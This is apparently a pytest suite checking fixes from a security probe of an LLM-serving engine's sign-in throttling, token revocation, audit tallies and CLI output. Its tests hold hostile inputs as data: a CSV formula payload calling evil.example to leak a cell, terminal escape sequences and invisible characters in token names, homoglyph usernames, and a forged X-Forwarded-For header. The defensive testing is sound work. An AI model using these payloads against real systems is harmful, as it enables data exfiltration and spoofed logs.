"""Who may do what, and what is recorded: each finding of the outside security probe of issue 17, and what must
hold. On a real SQLite file with vLLM not started (autostart off); the concurrency findings behind a real uvicorn.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import secrets
import sqlite3
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient

from engine.access import Auth
from engine.app import create_app
from engine.config import AppConfig
from engine.schemas import CONSOLE_CLIENT_HEADER, CONSOLE_KEY_HEADER
from tests.testkit.engine import ADMIN_PASSWORD, REPO, running_engine
from tests.testkit.served import serve
from tests.testkit.wait import wait_until


class Gate:
    """Holds every caller of a wrapped function until released, and counts who is waiting."""

    def __init__(self) -> None:
        self.released = threading.Event()
        self.entered = 0
        self._lock = threading.Lock()

    def wrap(self, fn: Callable[..., Any]) -> Callable[..., Any]:
        def held(*args: Any, **kwargs: Any) -> Any:
            with self._lock:
                self.entered += 1
            self.released.wait(120)
            return fn(*args, **kwargs)
        return held


@pytest.fixture
def gate() -> Iterator[Gate]:
    g = Gate()
    yield g
    g.released.set()  # whatever the test did, nothing stays held


# --- 1. sign-in floods ------------------------------------------------------------------------------------------

def test_a_sign_in_flood_past_the_hashing_queue_is_refused_with_429_and_health_answers(
        data_dir: Path, gate: Gate) -> None:
    """48 sign-ins at once took every thread of the pool that serves /healthz (and 64 MiB each): now at most
    workers + queue are taken in, the rest are refused at once with 429 and Retry-After, and health answers."""
    app = create_app(AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD,
                               login_hash_workers=1, login_hash_queue=2))
    auth = app.state.services.auth
    auth._verify = gate.wrap(auth._verify)  # a password check that takes as long as the test wants
    with serve(app) as url, ThreadPoolExecutor(48) as pool, httpx.Client(base_url=url, timeout=60) as http:
        def sign_in(i: int) -> httpx.Response:
            return http.post("/api/auth/login", json={"username": "admin" if i % 2 else f"guess{i}",
                                                      "password": "wrong-password"})

        flood = [pool.submit(sign_in, i) for i in range(48)]
        refused = wait_until(lambda: [f.result() for f in flood if f.done()] if sum(f.done() for f in flood) >= 45
                             else None, 60, what="45 of 48 sign-ins answered while 3 are being checked")
        assert len(refused) == 45 and {r.status_code for r in refused} == {429}
        assert all(int(r.headers["retry-after"]) >= 1 for r in refused)
        assert "try again in" in refused[0].json()["detail"]
        # the one taken in by the hashing thread may still be on its way to the check (its user's lookup first)
        wait_until(lambda: gate.entered >= 1, 30, what="the first check running")
        assert gate.entered == 1  # one hashing thread: one check at a time, two waiting
        assert http.get("/healthz", timeout=10).json() == {"ok": True}  # during the flood
        assert http.get("/readyz", timeout=10).status_code == 503  # answered (vLLM is stopped), not held
        gate.released.set()
        assert [f.result().status_code for f in flood if f.result().status_code != 429] == [401, 401, 401]


def test_a_sign_in_flood_from_one_source_leaves_the_others_room(data_dir: Path, gate: Gate) -> None:
    """An anonymous flood kept the shared hashing queue full: 13 of 15 real sign-ins got 429 (issue 31). Each source
    (the browser's address the console passes with its key, else the peer's) now holds at most its share."""
    config = AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD, login_hash_workers=1,
                       login_hash_queue=7, login_hash_per_source=2)
    app = create_app(config)
    auth = app.state.services.auth
    auth._verify = gate.wrap(auth._verify)
    console_key = config.console_key_path.read_text().strip()

    def from_browser(address: str) -> dict[str, str]:  # as the console sends a browser's sign-in
        return {CONSOLE_KEY_HEADER: console_key, CONSOLE_CLIENT_HEADER: address}

    with serve(app) as url, ThreadPoolExecutor(40) as pool, httpx.Client(base_url=url, timeout=60) as http:
        def sign_in(headers: dict[str, str]) -> httpx.Response:  # a name each: no lockout in the way
            return http.post("/api/auth/login", json={"username": f"user{secrets.token_hex(4)}",
                                                      "password": "wrong-password"}, headers=headers)

        flood = [pool.submit(sign_in, from_browser("203.0.113.9")) for _ in range(30)]
        refused = wait_until(lambda: [f.result() for f in flood if f.done()] if sum(f.done() for f in flood) >= 28
                             else None, 60, what="28 of the flood's 30 answered while its share is held")
        assert {r.status_code for r in refused} == {429}
        real = [pool.submit(sign_in, from_browser(f"198.51.100.{i}")) for i in range(3)]
        real.append(pool.submit(sign_in, {}))  # the peer itself (no console)
        wait_until(lambda: gate.entered >= 1, 30, what="the first check running")
        assert not any(f.done() for f in real)  # taken in, waiting for the hashing thread, not refused
        gate.released.set()
        assert [f.result().status_code for f in real] == [401, 401, 401, 401]  # checked (a wrong password)
        assert [f.result().status_code for f in flood if f.result().status_code != 429] == [401, 401]


def test_health_and_readiness_never_wait_for_the_shared_thread_pool(data_dir: Path, gate: Gate) -> None:
    """Every thread of the shared pool held (here by token checks that hang): /healthz and /readyz still answer."""
    app = create_app(AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD))
    auth = app.state.services.auth
    auth.authenticate = gate.wrap(auth.authenticate)
    with serve(app) as url, ThreadPoolExecutor(48) as pool, httpx.Client(base_url=url, timeout=60) as http:
        held = [pool.submit(http.get, "/api/status", headers={"authorization": "Bearer llmops_x"})
                for _ in range(48)]
        wait_until(lambda: gate.entered >= 40, 60, what="every thread of the shared pool held")  # anyio's 40
        assert http.get("/healthz", timeout=10).status_code == 200
        assert http.get("/readyz", timeout=10).status_code == 503
        gate.released.set()
        assert {f.result().status_code for f in held} == {401}


# --- 2. disabling a user does not revoke what they made ----------------------------------------------------------

@pytest.fixture
def keyed(data_dir: Path) -> Iterator[tuple[TestClient, dict[str, str], Any]]:
    """An engine with gateway keys on, and a root admin token made on its machine (as `llmops token create`)."""
    app = create_app(AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD,
                               gateway_keys="on"))
    root = {"authorization": f"Bearer {app.state.services.auth.create_token('root', 'admin')[0]}"}
    with TestClient(app) as client:
        yield client, root, app


def bearer(token: str) -> dict[str, str]:
    return {"authorization": f"Bearer {token}"}


def what_ana_made(client: TestClient, root: dict[str, str]) -> dict[str, dict[str, str]]:
    """Ana, an admin, signs in and makes an API token, a gateway key and, with that token, another token."""
    assert client.post("/api/users", json={"username": "ana", "password": "ana-password-1", "role": "admin"},
                       headers=root).status_code == 201
    session = bearer(client.post("/api/auth/login", json={"username": "ana", "password": "ana-password-1"})
                     .json()["token"])
    api = bearer(client.post("/api/tokens", json={"name": "ana-ci", "role": "admin"}, headers=session)
                 .json()["token"])
    key = bearer(client.post("/api/tokens", json={"name": "ana-app", "role": "prompter", "kind": "gateway"},
                             headers=session).json()["token"])
    child = bearer(client.post("/api/tokens", json={"name": "ana-ci-child", "role": "operator"}, headers=api)
                   .json()["token"])
    assert client.post("/v1/completions", json={"model": "demo", "prompt": "x"}, headers=key).status_code == 503
    return {"session": session, "api": api, "key": key, "child": child}


NEW_ADMIN = {"username": "mallory", "password": "mallory-password", "role": "admin"}


@pytest.mark.parametrize("change", ["disable", "demote", "delete"])
def test_disabling_demoting_or_deleting_a_user_revokes_their_tokens_and_keys_at_once(
        keyed: tuple[TestClient, dict[str, str], Any], change: str) -> None:
    """A disabled admin's API token created a new admin, and their gateway key still served /v1."""
    client, root, _ = keyed
    made = what_ana_made(client, root)
    resp = (client.delete("/api/users/ana", headers=root) if change == "delete" else
            client.patch("/api/users/ana", json={"disabled": True} if change == "disable" else {"role": "viewer"},
                         headers=root))
    assert resp.status_code == 200, resp.text
    for which in ("session", "api", "child"):
        assert client.post("/api/users", json=NEW_ADMIN, headers=made[which]).status_code == 401, which
    assert client.post("/v1/completions", json={"model": "demo", "prompt": "x"},
                       headers=made["key"]).status_code == 401
    assert "mallory" not in [u["username"] for u in client.get("/api/users", headers=root).json()]
    listed = {t["name"]: t for t in client.get("/api/tokens", headers=root).json()}
    assert all(listed[n]["revoked_at"] for n in ("ana-ci", "ana-app", "ana-ci-child"))
    assert listed["ana-ci-child"]["owner"] == ("ana" if change != "delete" else listed["ana-ci-child"]["owner"])
    if change != "delete":  # enabled or promoted again: what was revoked stays revoked
        client.patch("/api/users/ana", json={"disabled": False, "role": "admin"}, headers=root)
        assert client.get("/api/auth/me", headers=made["api"]).status_code == 401


def test_a_change_made_by_another_process_reaches_v1_within_the_key_cache(
        keyed: tuple[TestClient, dict[str, str], Any]) -> None:
    """Disabled through the engine's database by another process (the CLI): /v1 refuses within cache_s (5 s)."""
    client, root, app = keyed
    made = what_ana_made(client, root)
    Auth(app.state.services.db).update_user("ana", disabled=True)  # another process: this engine is not told

    def refused() -> bool:
        return client.post("/v1/completions", json={"model": "demo", "prompt": "x"},
                           headers=made["key"]).status_code == 401

    wait_until(refused, 15, what="the gateway key refused after its owner was disabled elsewhere")


@pytest.mark.parametrize("change", ["disable", "demote", "delete"])
def test_the_last_enabled_admin_cannot_be_disabled_demoted_or_deleted(
        keyed: tuple[TestClient, dict[str, str], Any], change: str) -> None:
    client, root, _ = keyed

    def attempt() -> Any:
        if change == "delete":
            return client.delete("/api/users/admin", headers=root)
        return client.patch("/api/users/admin", json={"disabled": True} if change == "disable" else
                            {"role": "operator"}, headers=root)

    resp = attempt()
    assert resp.status_code == 409 and "last enabled admin" in resp.json()["detail"], resp.text
    users = client.get("/api/users", headers=root).json()
    assert [(u["username"], u["role"], u["disabled"]) for u in users] == [("admin", "admin", False)]
    assert client.post("/api/auth/login", json={"username": "admin", "password": ADMIN_PASSWORD}).status_code == 200
    client.post("/api/users", json={"username": "second", "password": "second-password", "role": "admin"},
                headers=root)
    assert attempt().status_code == 200  # with another enabled admin it may


def test_deleting_a_user_is_audited_and_frees_the_name(keyed: tuple[TestClient, dict[str, str], Any]) -> None:
    client, root, _ = keyed
    what_ana_made(client, root)
    deleted = client.delete("/api/users/ana", headers=root)
    assert deleted.json() == {"username": "ana", "role": "admin", "tokens_revoked": 3}
    assert client.delete("/api/users/ana", headers=root).status_code == 404
    assert client.post("/api/auth/login", json={"username": "ana", "password": "ana-password-1"}).status_code == 401
    record = client.get("/api/audit", params={"action": "users.delete", "result": 200}, headers=root).json()[0]
    assert (record["actor"], record["target"], record["result"]) == ("root", "user ana", 200)
    assert record["before"] == {"role": "admin", "disabled": False}
    assert record["after"] == {"deleted": True, "tokens_revoked": 3}
    assert client.post("/api/users", json={"username": "ana", "password": "new-ana-password", "role": "viewer"},
                       headers=root).status_code == 201
    old = [t for t in client.get("/api/tokens", headers=root).json() if t["name"].startswith("ana-")]
    assert old and all(t["owner"] != "ana" for t in old)  # the new ana does not seem to own the old ana's tokens


# --- 3. the audit grows without bound from anonymous requests ---------------------------------------------------

def audit_count(app: Any) -> int:
    """Rows of the audit trail, read from the engine's own database (SQLite or PostgreSQL)."""
    from sqlmodel import func, select

    from engine.db import AuditRecord

    with app.state.services.db.session() as s:
        return int(s.exec(select(func.count()).select_from(AuditRecord)).one())


def test_anonymous_refused_requests_are_counted_per_minute_not_a_row_each(
        keyed: tuple[TestClient, dict[str, str], Any], data_dir: Path) -> None:
    """~400 rows/s from one client, undeletable: now one count per minute, source, action, target and result,
    while every authenticated change stays a row of its own."""
    client, root, app = keyed
    before = audit_count(app)
    for _ in range(150):
        assert client.put("/api/settings", json={"base_revision": 1, "values": {}}).status_code == 401
        assert client.post("/api/no-such-route", json={}).status_code == 404
        assert client.put("/api/settings", json={"base_revision": 1, "values": {}},
                          headers=bearer("llmops_forged")).status_code == 401
    for _ in range(20):
        assert client.post("/api/auth/login", content=b"{").status_code == 422
    assert audit_count(app) == before  # not one row
    viewer = bearer(app.state.services.auth.create_token("viewer", "viewer")[0])
    gateway = bearer(app.state.services.auth.create_token("key", "prompter", "gateway")[0])
    for _ in range(100):  # a credential that may not do it at all: counted too (300-370 rows a second before)
        assert client.put("/api/settings", json={"base_revision": 1, "values": {}}, headers=viewer).status_code == 403
        assert client.post("/api/settings/rollback", json={"revision": 1}, headers=gateway).status_code == 403
    assert client.put("/api/settings", json={"base_revision": 1, "values": {"max_num_seqs": 4}},
                      headers=root).status_code == 201
    assert client.put("/api/settings", json={"base_revision": 1, "values": {"max_num_seqs": 5}},
                      headers=root).status_code == 409  # stale: a change it may make, refused, is a row too
    assert audit_count(app) == before + 2  # an authenticated caller's every change it may make is a row
    counted = client.get("/api/audit/tallies", headers=root).json()
    assert len(counted) <= 10  # a row per key and minute (the loop may cross into the next minute on a slow host)
    totals: dict[tuple[str, str, int], int] = {}
    for t in counted:
        key = (t["source"], t["action"], t["result"])
        totals[key] = totals.get(key, 0) + t["count"]
    assert totals == {("testclient", "settings.write", 401): 300, ("testclient", "post /api/no-such-route", 404): 150,
                      ("testclient", "auth.login", 422): 20, ("testclient as api viewer", "settings.write", 403): 100,
                      ("testclient as gateway key", "settings.rollback", 403): 100}
    assert sum(t["count"] for t in client.get("/api/audit/tallies", params={"result": 404}, headers=root).json()) == 150


def test_a_minute_keeps_a_bounded_number_of_keys_and_the_table_a_bounded_number_of_rows(data_dir: Path) -> None:
    from engine.access import AuditTallies
    from engine.db import open_database

    db = open_database(data_dir / "llmops.db")
    tallies = AuditTallies(db, keys_per_minute=5, max_rows=100)
    now = 1_800_000_000.0
    for i in range(40):  # forty sources in one minute: five keep their own count, the rest are "(others)"
        tallies.count(source=f"10.0.0.{i}", action="settings.write", target="", result=401, now=now)
    tallies.flush()
    rows = tallies.query(since=now, until=now + 60)
    assert len(rows) == 6 and sum(r.count for r in rows) == 40
    assert [(r.source, r.count) for r in rows if r.source == "(others)"] == [("(others)", 35)]
    tallies._trimmed_at = 0.0
    for minute in range(200):  # two hundred minutes of one key each: the oldest go past max_rows
        tallies.count(source="10.1.1.1", action="x", target="", result=404, now=now + 60 * (minute + 1))
    tallies.flush()
    kept = tallies.query(limit=10_000)
    assert len(kept) == 100 and min(r.minute for r in kept) > now
    db.close()


def test_sign_in_and_out_work_when_the_disk_is_low_and_changes_keep_their_507(data_dir: Path) -> None:
    """Below min_free_disk_bytes nobody could sign in; now one can, read, and sign out, and writes get 507."""
    app = create_app(AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD,
                               min_free_disk_bytes=1 << 60))  # no disk is this free: as if it were full
    with TestClient(app) as client:
        login = client.post("/api/auth/login", json={"username": "admin", "password": ADMIN_PASSWORD})
        assert login.status_code == 200, login.text
        session = bearer(login.json()["token"])
        assert client.get("/api/status", headers=session).status_code == 200
        refused = client.put("/api/settings", json={"base_revision": 1, "values": {"max_num_seqs": 3}},
                             headers=session)
        assert refused.status_code == 507 and "free some space" in refused.json()["detail"]
        assert client.post("/api/auth/logout", headers=session).status_code == 200
        assert client.get("/api/status", headers=session).status_code == 401


# --- 4. lows ---------------------------------------------------------------------------------------------------

def test_a_failed_anonymous_sign_in_is_not_recorded_under_the_name_it_claimed(
        keyed: tuple[TestClient, dict[str, str], Any]) -> None:
    client, root, _ = keyed
    assert client.post("/api/auth/login", json={"username": "admin", "password": "wrong-password"}
                       ).status_code == 401
    assert client.post("/api/auth/login", json={"username": "admin", "password": ADMIN_PASSWORD}).status_code == 200
    rows = client.get("/api/audit", params={"action": "auth.login"}, headers=root).json()
    assert [(r["actor"], r["result"]) for r in rows] == [("admin", 200)]  # only the sign-in that was admin's
    counted = client.get("/api/audit/tallies", params={"action": "auth.login"}, headers=root).json()
    assert [(t["target"], t["result"], t["count"]) for t in counted] == [("user admin", 401, 1)]


def test_a_non_users_lockout_survives_a_restart_like_a_users(data_dir: Path) -> None:
    """Unknown-name lockouts lived in memory: after a restart an attacker could tell users from non-users."""
    config = AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD, login_max_failures=3,
                       login_lockout_s=600)

    def attempt(client: TestClient, name: str) -> int:
        return client.post("/api/auth/login", json={"username": name, "password": "wrong-password"}).status_code

    with TestClient(create_app(config)) as client:
        for name in ("admin", "nobody"):
            assert [attempt(client, name) for _ in range(4)] == [401, 401, 401, 423]
    with TestClient(create_app(config)) as client:  # the engine restarted
        assert attempt(client, "admin") == attempt(client, "nobody") == 423


@pytest.mark.parametrize(("name", "why"), [("Admin", "exists"), ("ADMIN", "exists"), ("adm1n", "looks like"),
                                           ("admln", "looks like"), ("\u0430dmin", "username"),
                                           ("ad\u200bmin", "username")])
def test_a_user_name_that_is_or_looks_like_another_is_refused(keyed: tuple[TestClient, dict[str, str], Any],
                                                             name: str, why: str) -> None:
    client, root, _ = keyed
    resp = client.post("/api/users", json={"username": name, "password": "long-enough-pw", "role": "admin"},
                       headers=root)
    assert resp.status_code == 422 and why in resp.text, (name, resp.text)
    assert [u["username"] for u in client.get("/api/users", headers=root).json()] == ["admin"]


@pytest.mark.parametrize("name", ["ci\nrevoked", "ci\x1b[2K\x1b[1Gadmin", "ci\u202egol", "ci\x00"])
def test_a_token_name_with_control_characters_is_refused(keyed: tuple[TestClient, dict[str, str], Any],
                                                         name: str) -> None:
    client, root, _ = keyed
    resp = client.post("/api/tokens", json={"name": name, "role": "viewer"}, headers=root)
    assert resp.status_code == 422 and resp.json()["detail"][0]["loc"] == ["body", "name"], resp.text
    assert "control or invisible character" in resp.text
    assert [t["name"] for t in client.get("/api/tokens", headers=root).json()] == ["root"]


def llmops(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "engine.cli", *args], capture_output=True, text=True, cwd=REPO,
                          timeout=120, env={**{k: v for k, v in os.environ.items() if k != "LLMOPS_TOKEN"},
                                            **(env or {})})


@pytest.mark.sqlite_file
def test_the_cli_escapes_names_refuses_control_characters_and_says_expired(tmp_path: Path) -> None:
    data = tmp_path / "data"
    refused = llmops("token", "create", "--role", "viewer", "--name", "x\x1b[31mred", "--data-dir", str(data))
    assert refused.returncode != 0 and "control or invisible character" in refused.stderr
    assert "\x1b" not in refused.stderr
    conn = sqlite3.connect(data / "llmops.db")  # made before names were checked: a name with an escape sequence
    conn.execute("INSERT INTO api_token (name, digest, prefix, role, kind, created_by, created_at) "
                 "VALUES (?, 'd1', 'llmops_abc', 'viewer', 'api', 'x', 0)", ("old\x1b[2K\rfake line",))
    conn.execute("INSERT INTO api_token (name, digest, prefix, role, kind, created_by, created_at, expires_at) "
                 "VALUES ('stale', 'd2', 'llmops_def', 'viewer', 'api', 'x', 0, 1)")
    conn.commit()
    conn.close()
    listing = llmops("token", "list", "--data-dir", str(data)).stdout
    assert "\x1b" not in listing and "\r" not in listing and "old\\x1b[2K\\rfake line" in listing
    assert re.search(r"stale\s+viewer\s+api\s+expired", listing), listing


@pytest.mark.sqlite_file
def test_the_cli_leaves_a_fresh_data_dir_private(tmp_path: Path) -> None:
    data = tmp_path / "fresh"
    assert llmops("token", "create", "--role", "viewer", "--data-dir", str(data)).returncode == 0
    assert stat.S_IMODE(os.stat(data).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(data / "run").st_mode) == 0o700
    files = list(data.glob("llmops.db*"))
    assert files and {stat.S_IMODE(os.stat(f).st_mode) for f in files} == {0o600}


@pytest.mark.one_database  # the HTTP edge / the CLI: the store plays no part
def test_the_cli_reads_a_token_file_and_warns_of_one_on_the_command_line(data_dir: Path, tmp_path: Path) -> None:
    app = create_app(AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD))
    token = app.state.services.auth.create_token("cli", "viewer")[0]
    secret = tmp_path / "token"
    secret.write_text(token + "\n")
    secret.chmod(0o600)
    with serve(app) as url:
        from_file = llmops("status", "--engine-url", url, "--token-file", str(secret))
        assert from_file.returncode == 0 and "state: stopped" in from_file.stdout, from_file.stderr
        assert "warning" not in from_file.stderr
        inline = llmops("status", "--engine-url", url, "--token", token)
        assert inline.returncode == 0 and "--token is visible to every user" in inline.stderr
        assert "LLMOPS_TOKEN" in inline.stderr and "--token-file" in inline.stderr
        assert llmops("status", "--engine-url", url, env={"LLMOPS_TOKEN": token}).returncode == 0


def test_a_csv_export_cell_never_starts_a_formula(keyed: tuple[TestClient, dict[str, str], Any]) -> None:
    client, root, _ = keyed
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    made = client.post("/api/tokens", json={"name": formula, "role": "operator"}, headers=root).json()
    client.post("/api/engine/stop", headers=bearer(made["token"]))  # acts: the audit's actor is the token's name
    exported = client.get("/api/audit/export", params={"format": "csv"}, headers=root).text
    cells = [c for row in csv.reader(io.StringIO(exported)) for c in row]
    assert "'" + formula in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.one_database  # the HTTP edge / the CLI: the store plays no part
def test_forwarded_headers_are_believed_only_from_configured_proxies(tmp_path: Path) -> None:
    """uvicorn believed X-Forwarded-For from any loopback peer: any local user could write the audit's source."""
    forged = {"x-forwarded-for": "203.0.113.9"}
    for proxies, expected in (([], "127.0.0.1"), (["127.0.0.1"], "203.0.113.9")):
        env = {"LLMOPS_AUTOSTART": "false", "LLMOPS_TRUSTED_PROXIES": json.dumps(proxies)}
        with running_engine(tmp_path / f"p{len(proxies)}", env, demo=False) as engine:
            assert httpx.post(f"{engine.url}/api/auth/login", headers=forged,
                              json={"username": "admin", "password": ADMIN_PASSWORD}).status_code == 200
            # the newest sign-in (on the PostgreSQL pass both engines share the test's database)
            assert engine.client.audit(action="auth.login", limit=1)[0].source == expected


def test_a_sign_in_whose_user_is_deleted_while_its_password_is_checked_is_refused(data_dir: Path) -> None:
    from engine.access import BadCredentialsError

    app = create_app(AppConfig(data_dir=data_dir, autostart=False, admin_password=ADMIN_PASSWORD))
    auth = app.state.services.auth
    auth.create_user("leaving", "leaving-password", "viewer")
    verify = auth._verify

    def meanwhile(hash_: str, password: str) -> bool:
        auth.delete_user("leaving")  # an admin deletes them while argon2 runs
        return bool(verify(hash_, password))

    auth._verify = meanwhile
    with pytest.raises(BadCredentialsError):
        auth.login("leaving", "leaving-password")
